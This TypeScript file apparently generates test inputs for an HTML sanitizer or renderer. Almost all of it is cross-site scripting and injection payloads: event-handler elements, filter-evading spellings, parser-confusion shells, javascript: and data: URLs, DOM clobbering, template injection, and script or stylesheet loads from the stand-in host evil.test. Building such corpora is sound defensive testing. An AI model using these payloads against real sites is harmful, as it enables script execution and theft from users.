/**
 * Texts that try to become markup, script, style, an address or a template once they are printed, each another. They are built from parts,
 * so that what one part does (an element that runs something by itself, a spelling that filters have missed, an ending of what stands
 * around it) is tried with the others. Each that runs calls `ran(number)` with its own place in the list, or asks evil.test for something.
 */
export function markupTexts(): string[] {
  const texts: string[] = []
  const add = (make: (number: number) => string) => texts.push(make(texts.length))
  const running = (element: string) => (number: number) => element.replaceAll('@', `ran(${number})`)
  const [image = '', drawing = ''] = selfStarting
  for (const element of selfStarting) add(running(element))
  for (const [at, spell] of spellings.entries()) {
    const some = selfStarting.filter((_element, place) => place % 3 === at % 3)
    for (const element of some) add((number) => spell(running(element)(number)))
  }
  for (const ending of endings)
    for (const element of [image, drawing]) add((number) => `${ending}${running(element)(number)}`)
  for (const shell of shells)
    for (const element of [image, '<script>@</script>'])
      add((number) => shell.replaceAll('@', running(element)(number)))
  const spelled = addresses(0).length
  for (const [first, element] of leading.entries())
    for (let at = first % 2; at < spelled; at += 2) add((number) => element.replace('@', addresses(number)[at] ?? ''))
  for (let at = 0; at < spelled; at += 1) add((number) => addresses(number)[at] ?? '')
  for (const text of others) add((number) => text.replaceAll('@', String(number)))
  return texts
}

/** Elements that run a handler when they appear, with `@` where the handler stands. */
const selfStarting = [
  '<img src=x onerror=@>',
  '<svg onload=@>',
  '<body onload=@>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<textarea autofocus onfocus=@>',
  '<a href=# autofocus onfocus=@>x</a>',
  '<x tabindex=1 autofocus onfocus=@>',
  '<details open ontoggle=@>x</details>',
  '<video><source onerror=@></video>',
  '<video src=x onerror=@></video>',
  '<audio src=x onerror=@></audio>',
  '<iframe onload=@></iframe>',
  '<object data=x onerror=@></object>',
  '<embed src=x onload=@>',
  '<style onload=@></style>',
  '<link rel=stylesheet href=data:text/css,x onload=@>',
  '<script src=x onerror=@></script>',
  '<marquee onstart=@>x</marquee>',
  '<svg><animate onbegin=@ attributeName=x dur=1s></svg>',
  '<svg><set onbegin=@ attributeName=x></svg>',
  '<svg><image href=x onerror=@></svg>',
  '<svg><style onload=@></style></svg>',
  '<p style=animation:x onanimationstart=@>x</p>',
]

/** Spellings of one element: capitals, other separators, quotes, references, signs that some readers drop. */
const spellings: ((element: string) => string)[] = [
  (element) => element.replace(/<\w+|on\w+/g, (word) => word.toUpperCase()),
  (element) =>
    element.replace(/<\w+|on\w+/g, (word) => [...word].map((one, at) => (at % 2 ? one.toUpperCase() : one)).join('')),
  (element) => element.replaceAll(' ', '/'),
  (element) => element.replaceAll(' ', '\n').replaceAll('=', '\t=\n'),
  (element) => element.replace(/on(\w+)=(ran\(\d+\))/g, 'on$1="$2"'),
  (element) => element.replace(/on(\w+)=(ran\(\d+\))/g, "on$1='$2;//'"),
  (element) => element.replace(/=ran\(/g, '=&#114;&#x61;n&lpar;'),
  (element) => element.replace(/>$/, ''),
]

/** What ends the thing that a text may stand in: an attribute, an element of its own rules, a comment, data. */
const endings = [
  ...['">', "'>", '`>', '\\">', '"/>', '-->', '--!>', ']]>', '*/', '?>', '</title>', '</textarea>', '</script>'],
  ...[
    '</style>',
    '</noscript>',
    '</template>',
    '</iframe>',
    '</svg>',
    '</select>',
    '</p></div></article>',
    '\u2028',
    '{"',
    ')',
  ],
]

/** Shells in which parsers have taken the same text for different things, with `@` where it stands. */
const shells = [
  '<math><mtext><table><mglyph><style>@',
  '<math><mi><mglyph><style><!--</style>@-->',
  '<svg></p><style><a id="</style>@">',
  '<svg><foreignObject>@</foreignObject></svg>',
  '<svg><desc><noscript>@</noscript></desc></svg>',
  '<noscript><p title="</noscript>@">',
  '<form><math><mtext></form><form><mglyph><style></math>@',
  '<select><template>@</template></select>',
  '<table><td>@</td></table>',
  '<template>@</template>',
  '<textarea>@</textarea>@',
  '<xmp>@</xmp>@',
  '<!--@-->@',
  '<!--><!-->@',
  '<![CDATA[@]]>@',
  '<?x @?>@',
  '<!DOCTYPE x [<!ENTITY y "@">]>&y;@',
  '<a title="<!--">@<a title="-->">',
  '<title>@</title>@',
  '<b id="1"><p><b><p><b>@',
]

/** Elements that lead somewhere or load something, with `@` where the address stands. */
const leading = [
  '<a href="@">x</a>',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@"></object>',
  '<form action="@"><button>x</form>',
  '<form id=f></form><button form=f formaction="@">x',
  '<svg><a xlink:href="@"><text y=9>x</text></a></svg>',
  '<math href="@">x</math>',
  '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<svg><use href="@"/></svg>',
]

/** Spellings of an address that runs, and addresses that load from elsewhere; also tried by themselves. */
const addresses = (number: number): string[] => [
  `javascript:ran(${number})`,
  `JaVaScRiPt:ran(${number})`,
  `java\tscript:ran(${number})`,
  `java\nscript:ran(${number})`,
  ` \u0001javascript:ran(${number})`,
  `&#106;avascript&colon;ran(${number})`,
  `javascript:%0aran(${number})`,
  `javascript://paper.test/%0aran(${number})`,
  `data:text/html,<script>parent.ran(${number})</script>`,
  `data:text/html;base64,PHNjcmlwdD4x`,
  `vbscript:ran(${number})`,
  `blob:https://evil.test/${number}`,
  `//evil.test/${number}`,
  `\\\\evil.test\\${number}`,
  `https:evil.test/${number}`,
]

const others = [
  '<script>ran(@)</script>',
  '<script>ran(@)//',
  '<script type=module>ran(@)</script>',
  '<script src=data:text/javascript,ran(@)></script>',
  '<script/src=//evil.test/@></script>',
  '<scr<script>ipt>ran(@)</scr</script>ipt>',
  '<svg><script>ran(@)</script></svg>',
  '<svg><script href=data:text/javascript,ran(@) /></svg>',
  '<iframe srcdoc="<script>parent.ran(@)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran(@)&gt;"></iframe>',
  "<style>@import '//evil.test/@';</style>",
  '<link rel=stylesheet href=//evil.test/@>',
  '<link rel=prefetch href=//evil.test/@>',
  '<div style="background:url(//evil.test/@)">x</div>',
  '<p style=width:expression(ran(@))>x</p>',
  '<img srcset=//evil.test/@ src=x>',
  '<picture><source srcset=//evil.test/@><img src=x></picture>',
  '<form id=document><input name=cookie></form>',
  '<img name=getElementById><img name=createElement>',
  '<a id=location href="javascript:ran(@)">x</a>',
  '<form><input name=attributes><input name=parentNode></form>',
  "{{constructor.constructor('ran(@)')()}}",
  `\${ran(@)}`,
  '#{ran(@)}',
  '<%= ran(@) %>',
  '[[ran(@)]]',
  '&lt;img src=x onerror=ran(@)&gt;',
  '&amp;lt;script&amp;gt;ran(@)&amp;lt;/script&amp;gt;',
  '%3Cimg src=x onerror=ran(@)%3E',
  '\\u003cimg src=x onerror=ran(@)\\u003e',
  '\\x3cscript\\x3eran(@)\\x3c/script\\x3e',
  '＜img src=x onerror=ran(@)＞',
  '<\ufeffscript>ran(@)</script>',
  '<sc\u200dript>ran(@)</script>',
  '\u202e<script>ran(@)</script>',
  '"><script>ran(@)</script>{"@type":"NewsArticle"}',
  '","x":"</script><script>ran(@)</script>',
  '[x](javascript:ran(@)) ![x](x"onerror="ran(@))',
  'x" onmouseover="ran(@)" y="',
  "x' autofocus onfocus='ran(@)",
  '=HYPERLINK("//evil.test/@")',
]
